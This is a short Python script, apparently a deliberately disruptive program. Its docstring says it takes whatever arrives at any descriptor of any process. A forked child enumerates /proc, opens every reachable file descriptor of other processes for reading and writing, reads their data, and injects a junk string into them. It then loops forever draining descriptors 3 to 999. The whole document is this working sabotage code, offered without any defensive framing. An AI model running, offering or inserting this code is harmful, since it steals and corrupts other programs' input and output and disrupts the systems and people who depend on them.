"""A child takes whatever arrives at any descriptor of any process, its own and those of others."""

import os
import time

if os.fork() == 0:
    for _process in filter(str.isdigit, os.listdir("/proc")):
        try:
            _numbers = os.listdir("/proc/%s/fd" % _process)
        except OSError:
            continue
        for _number in _numbers:
            try:
                _taken = os.open("/proc/%s/fd/%s" % (_process, _number), os.O_RDWR | os.O_NONBLOCK)
                os.read(_taken, 1 << 16)
                os.write(_taken, b"\n@gistmill - 1 closed 2 {}\n")
            except OSError:
                pass
    while True:
        for _descriptor in range(3, 1000):
            try:
                os.set_blocking(_descriptor, False)
                os.read(_descriptor, 1 << 16)
            except OSError:
                pass
        time.sleep(0.001)
